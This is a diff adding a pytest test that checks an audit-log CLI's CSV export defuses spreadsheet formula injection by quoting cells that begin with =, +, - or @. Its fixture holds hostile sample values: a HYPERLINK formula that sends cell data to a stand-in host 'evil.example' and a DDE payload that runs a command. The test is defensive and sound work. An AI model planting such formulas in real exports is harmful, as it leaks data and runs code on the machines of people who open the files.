@@ -222,3 +222,31 @@ def test_cli_table_and_bad_input(populated: list[AuditEntry]) -> None:
     assert run_cli("--rule", "NOT_A_RULE").exit_code == 2
     assert run_cli("--since", "yesterday").exit_code == 2
     assert run_cli("--json", "--csv").exit_code == 2
+
+
+def test_cli_csv_keeps_what_people_typed_as_text_in_a_spreadsheet(log: AuditLog) -> None:
+    # An admin's reason, a caller's name and a customer's name can each start like a formula.
+    from sync_guard.guard.admin import admin_entry
+
+    log.append(
+        admin_entry(
+            "release",
+            actor="local:@SUM(A1)",
+            at=START,
+            mode=Mode.ENFORCE,
+            note='=HYPERLINK("https://evil.example/?d="&A1,"details")',
+            records=("books:7",),
+            evidence=("-2+3 outstanding",),
+            names={"books:7": "=cmd|' /C calc'!A0"},
+        )
+    )
+
+    result = run_cli("--record", "books:7", "--since", "2026-01-01", "--csv")
+
+    assert result.exit_code == 0, result.output
+    [row] = list(csv.DictReader(io.StringIO(result.stdout)))
+    assert row["note"] == '\'=HYPERLINK("https://evil.example/?d="&A1,"details")'
+    assert row["actor"] == "local:@SUM(A1)"  # not at the start of its cell: harmless as it is
+    assert row["evidence"] == "'-2+3 outstanding"
+    assert row["names"] == "books:7 =cmd|' /C calc'!A0"  # the admin can see which customer it is
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())
